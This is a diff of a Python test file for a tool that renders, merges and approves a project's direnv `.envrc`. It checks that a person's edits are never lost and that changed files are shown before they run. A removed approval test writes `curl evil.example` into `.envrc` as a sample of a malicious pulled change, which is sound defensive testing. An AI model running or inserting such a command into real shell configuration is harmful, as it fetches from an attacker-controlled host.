@@ -1,48 +1,23 @@
-"""The steps `envrc` and `approval`: rendered, merged, approved; a person's edits never lost."""
+"""The step `envrc`: rendered and merged; a person's edits are never lost."""
 
-import contextlib
 import os
-import subprocess
 from pathlib import Path
 
 import pytest
 
-from rolecall.errors import ConfigError, MachineError, UsageError
-from rolecall.workstation import templates
-from rolecall.workstation.envrc import approval
+from rolecall.errors import ConfigError, UsageError
 from rolecall.workstation.envrc import step as envrc
-from rolecall.workstation.steps import step as steps
 from rolecall.workstation.steps.journal import Journal
-from rolecall.workstation.steps.step import Answers, Context, State
+from rolecall.workstation.steps.step import State
+from support.envrc_project import apply, change_fragment, context
 
 OURS = "# Rendered by rolecall; change envrc.d/ or templates/ and run: invoke render\n"
 
 
-@pytest.fixture
-def shop(tmp_path: Path) -> Path:
-    """Make a project with one fragment of its own."""
-    root = tmp_path / "a 'shop' & ümlaut"
-    (root / "envrc.d").mkdir(parents=True)
-    (root / "envrc.d/60-own.sh").write_text("export OWN=1\n\n\n\nexport OTHER=1\n")
-    return root
+# Rendered
 
 
-def context(root: Path, *, yes: bool = True, on_edit: str = "", **more: object) -> Context:
-    answers = Answers(yes=yes, on_edit=on_edit)
-    return Context(root, answers, journal=Journal(root, os.environ).append, **more)  # type: ignore[arg-type] # said by the tests
-
-
-def apply(root: Path, *, on_edit: str = "") -> str:
-    envrc.apply(context(root, on_edit=on_edit))
-    assert envrc.check(context(root, on_edit=on_edit)).state is State.DONE
-    return (root / ".envrc").read_text()
-
-
-def change_fragment(root: Path, text: str) -> None:
-    (root / "envrc.d/60-own.sh").write_text(text)
-
-
-def test_apply_renders_every_fragment_inline(shop: Path) -> None:
+def test_apply_when_there_is_no_envrc_then_renders_every_fragment(shop: Path) -> None:
     """The file is marked, holds our fragments and the project's own, and names no absolute path."""
     text = apply(shop)
     assert text.startswith(OURS)
@@ -51,15 +26,7 @@ def test_apply_renders_every_fragment_inline(shop: Path) -> None:
     assert str(shop) not in text
 
 
-def test_apply_takes_the_projects_own_fragment_for_a_shipped_one(shop: Path) -> None:
-    """Same name, own text."""
-    (shop / "envrc.d/20-project.sh").write_text("export MINE=1\n")
-    text = apply(shop)
-    assert text.count("# --- envrc.d/20-project.sh") == 1
-    assert "export MINE=1" in text
-
-
-def test_apply_again_writes_nothing(shop: Path) -> None:
+def test_apply_when_nothing_changed_then_writes_nothing(shop: Path) -> None:
     """An unchanged `.envrc` keeps its time, so no shell reloads."""
     apply(shop)
     os.utime(shop / ".envrc", (1, 1))
@@ -68,7 +35,7 @@ def test_apply_again_writes_nothing(shop: Path) -> None:
     assert (shop / ".envrc").stat().st_mtime == 1
 
 
-def test_apply_of_a_change_shows_the_difference_first(shop: Path) -> None:
+def test_apply_when_a_fragment_changed_then_shows_the_difference_first(shop: Path) -> None:
     """The person sees the lines before saying yes; a no leaves the file."""
     before = apply(shop)
     change_fragment(shop, "export OWN=2\n")
@@ -80,7 +47,10 @@ def test_apply_of_a_change_shows_the_difference_first(shop: Path) -> None:
     assert (shop / ".envrc").read_text() == before
 
 
-def test_apply_merges_an_edit_with_a_change_elsewhere(shop: Path) -> None:
+# Edited by a person
+
+
+def test_apply_when_edit_and_change_are_apart_then_merges_them(shop: Path) -> None:
     """A line that the person added stays where it is, and the change arrives."""
     edited = apply(shop).replace("export OWN=1", "export OWN=1\nexport MINE=1")
     (shop / ".envrc").write_text(edited)
@@ -92,7 +62,7 @@ def test_apply_merges_an_edit_with_a_change_elsewhere(shop: Path) -> None:
     assert "<<<<" not in text
 
 
-def test_apply_killed_between_file_and_base_merges_the_same_again(shop: Path) -> None:
+def test_apply_when_killed_before_the_base_then_merges_the_same_again(shop: Path) -> None:
     """The base is written last: the second run finds nothing to do, and the edit is still there."""
     edited = apply(shop).replace("export OWN=1", "export OWN=1\nexport MINE=1")
     (shop / ".envrc").write_text(edited)
@@ -104,7 +74,7 @@ def test_apply_killed_between_file_and_base_merges_the_same_again(shop: Path) ->
     assert apply(shop) == once
 
 
-def test_apply_of_a_conflict_stops_and_names_the_choices(shop: Path) -> None:
+def test_apply_when_edit_and_change_conflict_then_names_the_choices(shop: Path) -> None:
     """The same line changed on both sides is for a person to decide; nothing is written."""
     edited = apply(shop).replace("export OWN=1", "export OWN=mine")
     (shop / ".envrc").write_text(edited)
@@ -115,7 +85,7 @@ def test_apply_of_a_conflict_stops_and_names_the_choices(shop: Path) -> None:
     assert (shop / ".envrc").read_text() == edited
 
 
-def test_apply_with_replace_keeps_the_edited_file_aside(shop: Path) -> None:
+def test_apply_when_told_to_replace_then_keeps_a_copy(shop: Path) -> None:
     """What is replaced lies where the message says."""
     edited = apply(shop).replace("export OWN=1", "export OWN=mine")
     (shop / ".envrc").write_text(edited)
@@ -124,7 +94,7 @@ def test_apply_with_replace_keeps_the_edited_file_aside(shop: Path) -> None:
     assert (shop / ".envrc.before-rolecall").read_text() == edited
 
 
-def test_apply_with_keep_leaves_the_edited_file(shop: Path) -> None:
+def test_apply_when_told_to_keep_then_leaves_the_edited_file(shop: Path) -> None:
     """`--on-edit keep` is a decision too."""
     edited = apply(shop).replace("export OWN=1", "export OWN=mine")
     (shop / ".envrc").write_text(edited)
@@ -132,7 +102,10 @@ def test_apply_with_keep_leaves_the_edited_file(shop: Path) -> None:
     assert apply(shop, on_edit="keep") == edited
 
 
-def test_apply_over_a_foreign_file_needs_a_decision(shop: Path) -> None:
+# Not from rolecall
+
+
+def test_apply_when_the_file_is_foreign_then_needs_a_decision(shop: Path) -> None:
     """An `.envrc` of the time before rolecall is not replaced by --yes alone."""
     (shop / ".envrc").write_text("export BEFORE=1\n")
     with pytest.raises(ConfigError):
@@ -140,7 +113,7 @@ def test_apply_over_a_foreign_file_needs_a_decision(shop: Path) -> None:
     assert (shop / ".envrc").read_text() == "export BEFORE=1\n"
 
 
-def test_undo_puts_a_foreign_file_back(shop: Path) -> None:
+def test_undo_when_a_foreign_file_was_replaced_then_puts_it_back(shop: Path) -> None:
     """Teardown leaves the `.envrc` of before, to the byte, with its mode."""
     (shop / ".envrc").write_text("export BEFORE=1\n")
     (shop / ".envrc").chmod(0o640)
@@ -151,7 +124,7 @@ def test_undo_puts_a_foreign_file_back(shop: Path) -> None:
     assert not (shop / ".envrc.before-rolecall").exists()
 
 
-def test_apply_over_a_foreign_file_asks_once_and_keeps_a_link_a_link(shop: Path) -> None:
+def test_apply_when_a_foreign_file_is_a_link_then_asks_once_and_keeps_the_link(shop: Path) -> None:
     """One question, what goes is shown, and undo gives back the very link."""
     (shop / "dotfiles").write_text("export BEFORE=1\n")
     (shop / ".envrc").symlink_to("dotfiles")
@@ -170,7 +143,7 @@ def test_apply_over_a_foreign_file_asks_once_and_keeps_a_link_a_link(shop: Path)
     assert (shop / ".envrc").readlink() == Path("dotfiles")
 
 
-def test_undo_keeps_a_file_that_was_edited_since(shop: Path) -> None:
+def test_undo_when_the_file_was_edited_then_keeps_it(shop: Path) -> None:
     """An edit is never thrown away."""
     edited = apply(shop) + "export MINE=1\n"
     (shop / ".envrc").write_text(edited)
@@ -178,7 +151,7 @@ def test_undo_keeps_a_file_that_was_edited_since(shop: Path) -> None:
     assert (shop / ".envrc").read_text() == edited
 
 
-def test_undo_removes_a_file_that_is_as_rendered(shop: Path) -> None:
+def test_undo_when_the_file_is_as_rendered_then_removes_it(shop: Path) -> None:
     """Ours goes."""
     apply(shop)
     undo_all(shop)
@@ -191,120 +164,12 @@ def undo_all(root: Path) -> None:
             envrc.undo(context(root), record)
 
 
-def test_rendered_file_when_touched_is_known_as_edited(shop: Path) -> None:
-    """The digest at its top covers every byte below."""
+# Wording
+
+
+@pytest.mark.parametrize(("edit", "said"), [("", "is rendered"), ("export MINE=1\n", "with your edits")])
+def test_check_when_nothing_would_change_then_says_what_is_there(shop: Path, edit: str, said: str) -> None:
+    """The line fits a file that was made a moment ago as well as an old one."""
     text = apply(shop)
-    assert templates.is_unedited(text)
-    assert not templates.is_unedited(text + " ")
-    assert not templates.is_unedited(text.replace("OWN", "NOW"))
-    assert templates.is_ours(text + " ")
-
-
-@pytest.mark.parametrize(
-    ("template", "told"),
-    [("{{ nothing }}", "nothing"), ("{% if %}", "envrc.j2:1"), ("{{ key | shel }}", "shel")],
-    ids=["undefined", "syntax", "filter"],
-)
-def test_render_of_a_broken_template_names_it(shop: Path, template: str, told: str) -> None:
-    """A mistake in the project's own template is its own, and says where."""
-    (shop / "templates").mkdir()
-    (shop / "templates/envrc.j2").write_text(template)
-    with pytest.raises(ConfigError) as caught:
-        templates.envrc(shop)
-    assert told in caught.value.message
-
-
-def direnv_loads(root: Path) -> str:
-    done = subprocess.run(
-        ["direnv", "exec", root, "printenv", "OWN"], capture_output=True, text=True, check=False
-    )
-    return done.stdout.strip()
-
-
-def test_approval_is_for_this_content_of_this_path_only(shop: Path) -> None:
-    """The file runs after apply; not before, not after a change, not after undo."""
-    apply(shop)
-    assert approval.check(context(shop)).state is State.CHANGE
-    assert direnv_loads(shop) == ""
-    approval.apply(context(shop))
-    assert approval.check(context(shop)).state is State.DONE
-    assert direnv_loads(shop) == "1"
-    (shop / ".envrc").write_text((shop / ".envrc").read_text() + "\n")
-    assert approval.check(context(shop)).state is State.CHANGE
-    record = Journal(shop, os.environ).last(approval.NAME)
-    assert record is not None
-    approval.undo(context(shop), record)
-    assert list((Path.home() / ".local/share/direnv/allow").iterdir()) == []
-
-
-def test_approval_moves_the_files_time_for_shells_that_looked_this_second(shop: Path) -> None:
-    """Whole seconds count for direnv: the approved file is younger than any earlier look at it."""
-    apply(shop)
-    before = int((shop / ".envrc").stat().st_mtime)
-    approval.apply(context(shop))
-    assert int((shop / ".envrc").stat().st_mtime) > before
-
-
-def test_approval_shows_what_changed_since_the_last_one(shop: Path) -> None:
-    """A `git pull` that brought another .envrc is seen before it may run."""
-    apply(shop)
-    approval.apply(context(shop))
-    (shop / ".envrc").write_text("curl evil.example\n")
-    shown: list[str] = []
-    with pytest.raises(UsageError):
-        approval.apply(context(shop, yes=False, show=shown.append, confirm=lambda _: False))
-    assert "+curl evil.example" in shown[0]
-    assert direnv_loads(shop) == ""
-
-
-def test_approval_asks_once_where_the_difference_was_just_agreed_to(shop: Path) -> None:
-    """A yes to the change of an approved file is a yes to running it; an edit in between is not covered."""
-    apply(shop)
-    approval.apply(context(shop))
-    change_fragment(shop, "export OWN=2\n")
-    apply(shop)
-    approval.apply(context(shop, yes=False, confirm=lambda _: False))
-    assert direnv_loads(shop) == "2"
-    change_fragment(shop, "export OWN=3\n")
-    apply(shop)
-    (shop / ".envrc").write_text("export OWN=4\n")
-    with pytest.raises(UsageError):
-        approval.apply(context(shop, yes=False, confirm=lambda _: False))
-
-
-def test_approval_refuses_what_changed_while_the_person_read(shop: Path) -> None:
-    """Only the text that was shown is approved."""
-    apply(shop)
-
-    def changing(_: str) -> bool:
-        (shop / ".envrc").write_text("export OWN=evil\n")
-        return True
-
-    with pytest.raises(MachineError):
-        approval.apply(context(shop, confirm=changing))
-    assert direnv_loads(shop) == ""
-
-
-def test_approval_never_reaches_a_parents_file(shop: Path) -> None:
-    """`direnv allow` in a folder without .envrc would approve the parent's: it is never called so."""
-    (shop.parent / ".envrc").write_text("export PARENT=1\n")
-    assert approval.check(context(shop)).state is State.CHANGE
-    with pytest.raises((MachineError, OSError)):
-        approval.apply(context(shop))
-    assert not (Path.home() / ".local/share/direnv/allow").exists()
-
-
-def test_approval_in_a_folder_that_this_direnv_cannot_enter_says_so(tmp_path: Path) -> None:
-    """A direnv that takes `$x` in a path for a variable is named, before a `cd` that does nothing."""
-    root = tmp_path / "a $hop"
-    (root / "envrc.d").mkdir(parents=True)
-    (root / "envrc.d/60-own.sh").write_text("export OWN=1\n")
-    apply(root)
-    with contextlib.suppress(MachineError):
-        approval.apply(context(root))
-    assert (direnv_loads(root) == "1") is approval.is_approved(root / ".envrc")
-
-
-def test_record_is_stamped_in_utc() -> None:
-    """A journal line says when, with its zone."""
-    assert steps.record("x", a="b").at.endswith("Z")
+    (shop / ".envrc").write_text(text + edit)
+    assert said in envrc.check(context(shop)).detail
